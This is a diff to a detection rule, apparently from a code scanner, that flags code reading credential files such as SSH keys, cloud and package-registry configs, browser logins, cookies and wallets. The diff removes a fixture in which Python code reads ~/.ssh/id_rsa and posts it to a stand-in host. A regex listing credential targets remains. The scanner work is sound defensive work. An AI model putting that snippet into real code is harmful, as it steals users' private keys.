@@ -14,17 +14,6 @@ export const credentials: CodeSign = {
       'Clients of cloud services read their own configuration there, hence a weak sign.',
       'Wallets and cookies of browsers are strong; read and sent in one flow it is loud.',
     ].join('\n'),
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "import os, requests\ndef go():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://example.org/', data=key)\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py': "import os\ndef cache():\n    return os.path.expanduser('~/.cache/acme')\n",
-      },
-    },
   },
   trigger:
     /[/\\~'"]\.(?:ssh|aws|pypirc|netrc|kube|npmrc|docker|git-credentials|gnupg)\b|id_(?:rsa|ed25519|ecdsa)|Login Data|Local State|logins\.json|key4\.db|Network.{1,2}Cookies|Local Storage|tdata|wallet/i,
